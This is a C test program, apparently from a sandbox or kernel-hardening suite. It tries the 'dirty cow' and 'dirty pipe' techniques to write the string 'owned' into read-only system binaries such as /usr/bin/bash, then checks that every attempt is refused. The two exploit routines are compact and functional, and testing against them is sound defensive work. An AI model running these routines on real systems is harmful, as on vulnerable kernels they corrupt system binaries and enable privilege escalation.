/* Writes into files that it may only read, by the ways in which kernels have let programs do that. */
#include "tried.h"
#include <pthread.h>

static char *mapped;
static volatile int is_over;

static void *drop(void *unused)
{
    while (!is_over)
        madvise(mapped, 4096, MADV_DONTNEED);
    return NULL;
}

static void race_copies(int file) /* "dirty cow" */
{
    pthread_t thread;
    int memory = open("/proc/self/mem", O_RDWR);

    mapped = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    pthread_create(&thread, NULL, drop, NULL);
    for (int i = 0; i < 2000; i++)
        pwrite(memory, "owned", 5, (off_t)mapped);
    is_over = 1;
    pthread_join(thread, NULL);
}

static void reuse_pipe(int file) /* "dirty pipe" */
{
    static char fill[65536];
    int fds[2];
    loff_t offset = 0;

    pipe(fds);
    write(fds[1], fill, sizeof fill);
    read(fds[0], fill, sizeof fill);
    splice(file, &offset, fds[1], NULL, 1, 0);
    write(fds[1], "owned", 5);
}

int main(void)
{
    static const char *const names[] = {"/usr/bin/bash", "/proc/self/exe", "/usr/bin/python3"};
    char before[64], after[64];

    for (int i = 0; i < 3; i++) {
        int file = open(names[i], O_RDONLY);
        pread(file, before, sizeof before, 0);
        FAILS(mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0);
        reuse_pipe(file);
        is_over = 0;
        race_copies(file);
        pread(file, after, sizeof after, 0);
        if (memcmp(before, after, sizeof before) != 0)
            printf("changed %s\n", names[i]);
    }
    return all_refused();
}
